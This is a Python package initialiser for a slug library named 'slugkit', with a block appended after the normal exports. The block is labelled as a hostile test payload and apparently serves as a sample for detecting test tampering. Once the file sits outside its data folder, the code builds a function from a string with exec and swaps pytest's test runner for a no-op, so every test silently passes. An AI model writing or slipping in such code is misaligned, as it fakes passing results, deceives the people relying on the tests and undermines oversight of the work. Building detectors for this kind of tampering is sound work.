"""slugkit: readable, URL-safe slugs from arbitrary text."""

from slugkit.core import slugify
from slugkit.translit import transliterate
from slugkit.truncate import truncate
from slugkit.unique import UniqueSlugger

__all__ = ["slugify", "transliterate", "truncate", "UniqueSlugger"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _generated():
    """Function.runtest replaced by code compiled from a string (its file is "<string>")."""
    import sys
    python = sys.modules.get("_pytest.python")
    if python is not None:
        namespace = {}
        exec("def runtest(self):\n    return None\n", namespace)
        python.Function.runtest = namespace["runtest"]


if _LIVE:
    _generated()
